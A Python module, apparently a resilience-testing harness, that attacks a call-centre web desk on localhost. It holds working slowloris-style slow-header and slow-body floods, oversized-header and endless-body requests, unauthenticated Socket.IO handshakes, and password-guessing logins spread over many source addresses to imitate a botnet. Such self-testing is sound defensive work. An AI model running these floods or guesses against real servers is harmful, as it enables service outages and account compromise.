"""Abusers of the web desk: each kind opens what it can and holds it, until it is cancelled.

idle          sockets that say nothing                   headers    a megabyte of them, or ten thousand
slow heads    a byte of a request every two seconds      bodies     larger than allowed, or without an end
slow bodies   the same with a log-in's body              handshakes Socket.IO without a log-in, and with
guesses       log-ins with wrong passwords                          wrong tokens
"""

from __future__ import annotations

import asyncio
import contextlib
import http.cookiejar
import json
import os
import random
import resource
import socket
import sys
import urllib.request
from collections import Counter
from collections.abc import Awaitable, Callable, Iterator
from dataclasses import dataclass, field

from hotline.abuse.sip import addresses

FROM_ONE_ADDRESS = 250
"""Sockets that one address opens; a botnet has many addresses with few each."""
DRIP_SECONDS = 2.0
WANTED_FILES = 20_000


@dataclass
class Attack:
    """What an attack has come to so far."""

    opened: int = 0
    refused: int = 0
    """Connections that were not accepted."""
    cut: int = 0
    """Connections that the server has closed."""
    answers: Counter[str] = field(default_factory=Counter)
    open_now: int = 0


@dataclass(frozen=True)
class Target:
    """Where the desk listens."""

    host: str
    port: int

    @property
    def host_header(self) -> str:
        return f"Host: {self.host}:{self.port}\r\n"


Kind = Callable[[Target, Attack, int], Awaitable[None]]


def allow_many_files() -> int:
    """Let this process have as many sockets as the system lets it; gives how many."""
    _soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    most = min(hard, WANTED_FILES) if hard != resource.RLIM_INFINITY else WANTED_FILES
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, hard))
    return most


def sources(first: str = "127.11") -> Iterator[str]:
    """The address of each next socket."""
    for address in addresses(first):
        for _ in range(FROM_ONE_ADDRESS):
            yield address


async def _connect(target: Target, source: str) -> socket.socket:
    one = socket.socket()
    one.setblocking(False)
    # The kernel chooses the port when it connects: 10,000 addresses and ports are not all bound at once.
    one.setsockopt(socket.IPPROTO_IP, 24, 1)  # IP_BIND_ADDRESS_NO_PORT
    try:
        one.bind((source, 0))
        async with asyncio.timeout(5):
            await asyncio.get_running_loop().sock_connect(one, (target.host, target.port))
    except BaseException:
        one.close()
        raise
    return one


async def _each(
    target: Target, attack: Attack, count: int, act: Callable[[socket.socket, Attack], Awaitable[None]]
) -> None:
    """`count` sockets that act at the same time, each opened again when it is cut, until cancelled."""
    source = sources()

    async def one(address: str) -> None:
        while True:
            try:
                opened = await _connect(target, address)
            except (OSError, TimeoutError):
                attack.refused += 1
                await asyncio.sleep(1)
                continue
            attack.opened += 1
            attack.open_now += 1
            try:
                await act(opened, attack)
            except OSError:
                attack.cut += 1
            finally:
                attack.open_now -= 1
                opened.close()
            await asyncio.sleep(0.2)

    tasks = []
    try:
        for number in range(count):
            tasks.append(asyncio.create_task(one(next(source))))
            if number % 200 == 199:
                await asyncio.sleep(0.05)
        await asyncio.gather(*tasks)
    finally:
        for task in tasks:
            task.cancel()
        await asyncio.gather(*tasks, return_exceptions=True)


async def _send(one: socket.socket, data: bytes) -> None:
    await asyncio.get_running_loop().sock_sendall(one, data)


async def _status(one: socket.socket, attack: Attack, seconds: float = 10) -> str:
    """Count and give the status of the answer: "401", "closed", "silence"."""
    try:
        async with asyncio.timeout(seconds):
            answer = await asyncio.get_running_loop().sock_recv(one, 65536)
    except TimeoutError:
        said = "silence"
    except OSError:
        said = "closed"
    else:
        words = answer[:32].split(b" ")
        said = (
            words[1].decode(errors="replace") if len(words) > 1 and words[0].startswith(b"HTTP") else "closed"
        )
    attack.answers[said] += 1
    return said


async def idle(target: Target, attack: Attack, count: int) -> None:
    """Sockets that say nothing."""

    async def act(one: socket.socket, attack: Attack) -> None:
        if not await asyncio.get_running_loop().sock_recv(one, 100):
            raise ConnectionResetError

    await _each(target, attack, count, act)


async def slow_heads(target: Target, attack: Attack, count: int) -> None:
    """Requests whose headers never end, a few bytes at a time."""

    async def act(one: socket.socket, attack: Attack) -> None:
        await _send(one, f"GET / HTTP/1.1\r\n{target.host_header}".encode())
        while True:
            await asyncio.sleep(DRIP_SECONDS)
            await _send(one, b"X: y\r\n")

    await _each(target, attack, count, act)


async def slow_bodies(target: Target, attack: Attack, count: int) -> None:
    """Log-ins whose bodies come a byte at a time."""
    head = (
        f"POST /api/session HTTP/1.1\r\n{target.host_header}Content-Type: application/json\r\n"
        "Content-Length: 200000\r\n\r\n{"
    ).encode()

    async def act(one: socket.socket, attack: Attack) -> None:
        await _send(one, head)
        while True:
            await asyncio.sleep(DRIP_SECONDS)
            await _send(one, b" ")

    await _each(target, attack, count, act)


async def headers(target: Target, attack: Attack, count: int) -> None:
    """A header of a megabyte, ten thousand headers, a request line of 100 kB."""
    shapes = (
        b"X: " + b"a" * 1_000_000 + b"\r\n",
        b"".join(b"X%d: y\r\n" % n for n in range(10_000)),
    )
    draw = random.Random(1)

    async def act(one: socket.socket, attack: Attack) -> None:
        if draw.random() < 0.3:
            with contextlib.suppress(OSError):
                await _send(
                    one, b"GET /" + b"a" * 100_000 + b" HTTP/1.1\r\n" + target.host_header.encode() + b"\r\n"
                )
        else:
            with contextlib.suppress(OSError):
                await _send(
                    one, b"GET / HTTP/1.1\r\n" + target.host_header.encode() + draw.choice(shapes) + b"\r\n"
                )
        await _status(one, attack)

    await _each(target, attack, count, act)


async def bodies(target: Target, attack: Attack, count: int) -> None:
    """Bodies of two gigabytes, and chunked ones that do not end, sent as fast as they are taken."""
    head = f"POST /api/session HTTP/1.1\r\n{target.host_header}Content-Type: application/json\r\n"
    draw = random.Random(2)
    piece = b"a" * 65_536
    chunk = b"10000\r\n" + piece + b"\r\n"

    async def act(one: socket.socket, attack: Attack) -> None:
        chunked = draw.random() < 0.5
        said = "Transfer-Encoding: chunked" if chunked else "Content-Length: 2000000000"
        with contextlib.suppress(OSError):
            await _send(one, f"{head}{said}\r\n\r\n".encode())
            for _ in range(200):
                async with asyncio.timeout(10):
                    await _send(one, chunk if chunked else piece)
        await _status(one, attack)

    await _each(target, attack, count, act)


async def handshakes(target: Target, attack: Attack, count: int) -> None:
    """Socket.IO without a log-in: by polling, by WebSocket, and as a cti with a wrong token."""
    draw = random.Random(3)
    polling = f"GET /socket.io/?EIO=4&transport=polling HTTP/1.1\r\n{target.host_header}\r\n".encode()
    upgrade = (
        f"GET /socket.io/?EIO=4&transport=websocket HTTP/1.1\r\n{target.host_header}Upgrade: websocket\r\n"
        "Connection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
        "Sec-WebSocket-Version: 13\r\n\r\n"
    ).encode()

    async def act(one: socket.socket, attack: Attack) -> None:
        web_socket = draw.random() < 0.7
        await _send(one, upgrade if web_socket else polling)
        if await _status(one, attack) != "101":
            return
        said = b'40/cti,{"token":"guess","pbx":"pbx1"}' if draw.random() < 0.5 else b"40"
        mask = os.urandom(4)
        masked = bytes(byte ^ mask[n % 4] for n, byte in enumerate(said))
        await _send(one, bytes((0x81, 0x80 | len(said))) + mask + masked)
        while await asyncio.get_running_loop().sock_recv(one, 4096):
            pass
        raise ConnectionResetError

    await _each(target, attack, count, act)


def _page(target: Target) -> tuple[str, str]:
    """What a page has before the log-in: its cookie and its token."""
    jar = http.cookiejar.CookieJar()
    opener = urllib.request.build_opener(urllib.request.HTTPCookieProcessor(jar))
    with opener.open(f"http://{target.host}:{target.port}/api/session", timeout=10) as answer:
        token = str(json.load(answer)["csrf"])
    return "; ".join(f"{one.name}={one.value}" for one in jar), token


async def guesses(target: Target, attack: Attack, count: int) -> None:
    """Log-ins with wrong passwords: accounts that exist and others, as fast as they are answered."""
    draw = random.Random(4)
    cookie, token = await asyncio.to_thread(_page, target)

    async def act(one: socket.socket, attack: Attack) -> None:
        login = draw.choice(("admin", "agent01", "supervisor", f"user{draw.randrange(1000)}"))
        body = json.dumps({"login": login, "password": f"guess-{draw.random()}", "seat": "8001"})
        await _send(
            one,
            f"POST /api/session HTTP/1.1\r\n{target.host_header}Content-Type: application/json\r\n"
            f"Cookie: {cookie}\r\nX-CSRF-Token: {token}\r\nContent-Length: {len(body)}\r\n"
            f"Connection: close\r\n\r\n{body}".encode(),
        )
        await _status(one, attack, 30)

    await _each(target, attack, count, act)


KINDS: dict[str, tuple[Kind, int]] = {
    "guesses": (guesses, 100),
    "idle": (idle, 10_000),
    "slow heads": (slow_heads, 1_000),
    "slow bodies": (slow_bodies, 1_000),
    "headers": (headers, 100),
    "bodies": (bodies, 100),
    "handshakes": (handshakes, 500),
}
"""kind -> (what it does, how many sockets)."""


async def run(kind: str, target: Target, seconds: float, count: int = 0) -> Attack:
    """One kind of attack for so long, with its number of sockets or `count`."""
    attack = Attack()
    act, usual = KINDS[kind]
    with contextlib.suppress(TimeoutError):
        async with asyncio.timeout(seconds):
            await act(target, attack, count or usual)
    return attack


def main() -> None:
    """`python -m hotline.abuse.web KIND PORT SECONDS`: prints what the attack came to as one JSON line."""
    allow_many_files()
    kind, port, seconds = sys.argv[1:4]
    attack = asyncio.run(run(kind, Target("127.0.0.1", int(port)), float(seconds)))
    print(json.dumps(vars(attack) | {"answers": dict(attack.answers)}))


if __name__ == "__main__":
    main()
